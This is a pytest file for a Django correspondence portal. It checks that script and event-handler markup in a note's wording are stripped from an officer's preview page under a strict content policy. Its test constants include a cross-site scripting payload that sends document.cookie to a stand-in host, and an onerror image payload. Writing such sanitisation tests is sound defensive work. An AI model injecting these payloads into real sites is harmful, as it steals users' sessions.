"""A note's wording is typed by people outside the secretariat; the preview an officer opens drops markup from
the body (rich text keeps only its safe subset) and the page's policy would stop a
script that got through anyway (issue 12, item 1)."""

import re

import pytest
from django.urls import reverse

from correspondence.models import AddresseeGroup
from tests.csp import is_strict

from . import factories

pytestmark = pytest.mark.django_db

SCRIPT = '<script>fetch("https://elsewhere.example/?" + document.cookie)</script>'
HANDLER = '<img src="x" onerror="alert(document.domain)">'


def test_a_script_in_a_notes_wording_cannot_run_under_a_strict_policy(client, member, office, meeting, parties):
    note = factories.draft(
        office,
        member,
        meeting=meeting,
        groups=[AddresseeGroup.STATES_PARTIES],
        subject=f"Invitation {SCRIPT}",
        body=f"{{{{ opening }}}} invite it. {SCRIPT} {HANDLER}\n\n{{{{ closing }}}}",
    )
    officer = factories.secretariat_user()
    client.force_login(officer)

    response = client.get(reverse("admin:correspondence_note_preview", args=[note.pk]))

    html = response.content.decode()
    assert response.status_code == 200
    assert is_strict(response)
    # The only scripts are the portal's own files, and no element carries an event handler.
    assert re.findall(r"<script\b[^>]*>", html) == ['<script src="/static/correspondence/preview.js" defer>']
    assert not re.search(r"<[^>]+\son\w+\s*=", html)
    assert "invite it." in html
    assert "<script>fetch(" not in html
    assert "onerror" not in html  # the body's markup is removed by the rich-text cleaner
